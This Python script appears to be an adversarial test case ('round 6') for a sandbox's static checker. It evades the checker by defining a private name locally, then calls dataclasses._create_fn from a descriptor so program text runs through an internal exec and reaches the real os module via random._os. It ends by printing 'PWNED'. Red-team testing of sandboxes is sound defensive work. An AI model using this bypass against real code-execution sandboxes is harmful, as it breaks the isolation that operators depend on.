# adversary round 6: dataclasses._create_fn (private name made "own" by defining it) called from a descriptor __get__ that _process_class triggers -> exec of program text at dataclasses' exec( site; body reads random._os (non-dunder attr) -> real os
import dataclasses, random
from dataclasses import dataclass

class Own:
    _create_fn = None   # makes the private name "the program's own" for the static check

got = []
class D:
    def __get__(self, obj, owner):
        if not got:
            body = ['return m._' + 'o' + 's']
            f = dataclasses._create_fn('f', ['m'], body)
            got.append(f(random))
        return 5

@dataclass
class C:
    x: int = D()

o = got[0]
print("got", type(o).__name__, o.__name__, o.getpid())
if o.__name__ == 'o' + 's':
    print("PWN" + "ED")
